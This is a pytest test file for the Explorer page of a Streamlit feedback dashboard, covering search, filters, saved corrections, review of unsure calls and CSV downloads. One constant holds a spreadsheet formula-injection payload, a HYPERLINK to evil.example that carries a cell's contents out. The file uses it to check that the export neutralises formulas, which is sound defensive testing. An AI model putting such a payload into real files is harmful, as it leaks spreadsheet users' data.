"""The Explorer page (AppTest) on the demo store: search, filters, and a correction that is kept."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from analysis.impersonal_threshold import unsure_band
from store.daily_counts import read_daily_counts, refresh_daily_counts
from store.engine import build_engine
from store.explorer import read_corrections
from store.feedback import read_feedback, upsert_feedback
from store.impacts import read_impacts_state
from store.records import FeedbackFrame, FeedbackRecord, SourceSpec

APP = str(Path(__file__).resolve().parents[2] / "dashboard" / "app.py")


def explorer() -> AppTest:
    app = AppTest.from_file(APP, default_timeout=120)
    app.run()
    app.switch_page("app_pages/explorer.py").run()
    assert not app.exception, app.exception
    return app


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """The keyword arguments of every download button the page draws (its `data` is what a click serves)."""
    drawn: list[dict[str, Any]] = []
    button = streamlit.download_button

    def recorded(*args: Any, **kwargs: Any) -> Any:
        drawn.append(kwargs)
        return button(*args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recorded)
    return drawn


def test_explorer__search_and_filters_narrow_the_table(demo_database: str, use_database) -> None:  # type: ignore[no-untyped-def]
    use_database(demo_database)
    app = explorer()
    everything = app.dataframe[0].value
    assert len(everything) == 100 and "items match" in app.caption[1].value
    app.text_input(key="explorer__search").input("kiosk").run()
    found = app.dataframe[0].value
    assert len(found) > 0 and all("kiosk" in text.lower() for text in found["text"])
    app.toggle(key="explorer__impersonal").set_value(True).run()
    assert app.dataframe[0].value["impersonal"].all()
    app.text_input(key="explorer__search").input("zzzz no such words").run()
    assert "Nothing matches." in app.info[0].value


def test_explorer__a_correction_is_stored_and_shown(demo_database: str, use_database, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    copy = tmp_path / "pulse.db"
    shutil.copy(demo_database.removeprefix("sqlite:///"), copy)
    url = f"sqlite:///{copy}"
    use_database(url)
    app = explorer()
    item = int(app.dataframe[0].value["id"].iloc[0])
    app.selectbox(key="explorer__item").set_value(item)
    app.radio(key="explorer__field").set_value("sentiment")
    app.selectbox(key="explorer__value").set_value("negative")
    app.button(key="FormSubmitter:explorer__correct-Save correction").click().run()
    assert app.success[0].value.endswith("sentiment corrected to negative.")  # shown after the rerun
    assert not app.exception
    shown = app.dataframe[0].value
    assert shown[shown["id"] == item]["corrected_sentiment"].tolist() == ["negative"]
    engine = build_engine(url)
    corrections = read_corrections(engine)
    assert corrections.select("feedback_id", "field", "value").rows() == [(item, "sentiment", "negative")]
    assert read_daily_counts(engine, "Europe/London")["corrected_n"].sum() == 1  # it counts at once
    assert read_impacts_state(engine).current  # and the rollouts were judged again with it


def test_explorer__needs_a_look_lists_unsure_calls_an_editor_settles_in_one_click(
    demo_database: str, use_database, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    copy = tmp_path / "pulse.db"
    shutil.copy(demo_database.removeprefix("sqlite:///"), copy)
    url = f"sqlite:///{copy}"
    use_database(url)
    app = explorer()
    app.toggle(key="explorer__unsure").set_value(True).run()
    listed = app.dataframe[0].value
    scores = listed["id"].map(dict(read_feedback(build_engine(url), ("id", "impersonal_score")).iter_rows()))
    assert len(listed) > 0 and scores.between(*unsure_band(), inclusive="left").all()
    item = int(listed["id"].iloc[0])
    app.button(key=f"explorer__yes_{item}").click().run()
    assert not app.exception, app.exception
    assert app.success[0].value == f"Item {item}: impersonal corrected to true."
    assert item not in app.dataframe[0].value["id"].tolist()  # settled: off the list
    corrections = read_corrections(build_engine(url))
    assert corrections.select("feedback_id", "field", "value").rows() == [(item, "impersonal", "true")]


# A review whose text a spreadsheet would run (a link that sends the row away when clicked), as a review
# site's export can carry it.
HOSTILE_REVIEW = '=HYPERLINK("http://evil.example/?q="&A2,"zebracake refund here")'


def test_explorer__the_page_download_neutralises_formulas(  # type: ignore[no-untyped-def]
    demo_database: str, use_database, tmp_path: Path, downloads: list[dict[str, Any]]
) -> None:
    copy = tmp_path / "pulse.db"
    shutil.copy(demo_database.removeprefix("sqlite:///"), copy)
    url = f"sqlite:///{copy}"
    engine = build_engine(url)
    newest = read_feedback(engine, ("created_at",))["created_at"].max()
    review = FeedbackRecord(
        external_id="evil-1",
        kind="review",
        created_at=newest + timedelta(minutes=1),
        text=HOSTILE_REVIEW,
        stars=1,
    )
    upsert_feedback(engine, SourceSpec("Review export", "review", "csv"), FeedbackFrame.of([review]))
    engine.dispose()
    use_database(url)
    app = explorer()
    app.text_input(key="explorer__search").input("zebracake").run()
    assert app.dataframe[0].value["text"].tolist() == [HOSTILE_REVIEW]  # shown as typed
    assert app.get("download_button")[0].label == "Download this page (CSV)"
    served = downloads[-1]["data"]()  # what a click on the button serves
    header, *rows = list(csv.reader(io.StringIO(served.decode("utf-8"))))
    assert [row[header.index("text")] for row in rows] == ["'" + HOSTILE_REVIEW]


def test_explorer__the_page_download_has_each_class_probability_beside_the_score(  # type: ignore[no-untyped-def]
    demo_database: str, use_database, downloads: list[dict[str, Any]]
) -> None:
    use_database(demo_database)
    app = explorer()
    probabilities = ["sentiment_p_negative", "sentiment_p_neutral", "sentiment_p_positive"]
    assert not set(probabilities) & set(app.dataframe[0].value.columns)  # the table stays as it was
    header, *rows = list(csv.reader(io.StringIO(downloads[-1]["data"]().decode("utf-8"))))
    at = header.index("sentiment_score") + 1
    assert header[at : at + 3] == probabilities and len(rows) == 100
    scored = [row[at : at + 3] for row in rows if row[at - 1]]  # an answer without a comment has no score
    assert scored and all(sum(float(value) for value in row) == pytest.approx(1) for row in scored)
    assert all(row[at : at + 3] == ["", "", ""] for row in rows if not row[at - 1])


LONG_COMMENT = (
    "The chatbot kept answering questions I had not asked, and when I finally asked for a person it sent me "
    "the same FAQ page again"
)


@pytest.fixture
def two_answers(empty_store_url: str) -> str:
    """A store with a long comment nobody has scored yet, and, a day later, an NPS answer without a comment."""
    engine = build_engine(empty_store_url)
    answers = [
        FeedbackRecord(
            external_id="long",
            kind="survey",
            created_at=datetime(2026, 3, 2, 12, tzinfo=UTC),
            text=LONG_COMMENT,
        ),
        FeedbackRecord(
            external_id="bare", kind="survey", created_at=datetime(2026, 3, 3, 9, tzinfo=UTC), nps=9
        ),
    ]
    upsert_feedback(engine, SourceSpec("Survey: test", "survey", "file"), FeedbackFrame.of(answers))
    refresh_daily_counts(engine, "Europe/London")
    engine.dispose()
    return empty_store_url


def test_explorer__one_match_in_the_singular_and_no_blank_sentiment(two_answers: str, use_database) -> None:  # type: ignore[no-untyped-def]
    use_database(two_answers)
    app = explorer()
    assert app.dataframe[0].value["sentiment"].tolist() == ["no comment", "not scored yet"]  # newest first
    app.text_input(key="explorer__search").input("FAQ").run()
    assert app.caption[1].value.startswith("1 item matches; showing 1–1, newest first")


def test_explorer__the_correction_picker_names_each_item_by_its_text_and_date(
    two_answers: str, use_database
) -> None:  # type: ignore[no-untyped-def]
    use_database(two_answers)
    app = explorer()
    picker = app.selectbox(key="explorer__item")
    ids = app.dataframe[0].value["id"].tolist()
    assert picker.options == [
        "No comment · 3 Mar 2026, 09:00",
        "The chatbot kept answering questions I had not asked, and when I finally asked… · 2 Mar 2026, 12:00",
    ]
    assert picker.value == ids[0]  # the item's id is what a correction is saved to
    picker.set_value(ids[1])
    app.selectbox(key="explorer__value").set_value("negative")
    app.radio(key="explorer__field").set_value("sentiment")
    app.button(key="FormSubmitter:explorer__correct-Save correction").click().run()
    assert not app.exception, app.exception
    corrections = read_corrections(build_engine(two_answers))
    assert corrections.select("feedback_id", "field", "value").rows() == [(ids[1], "sentiment", "negative")]
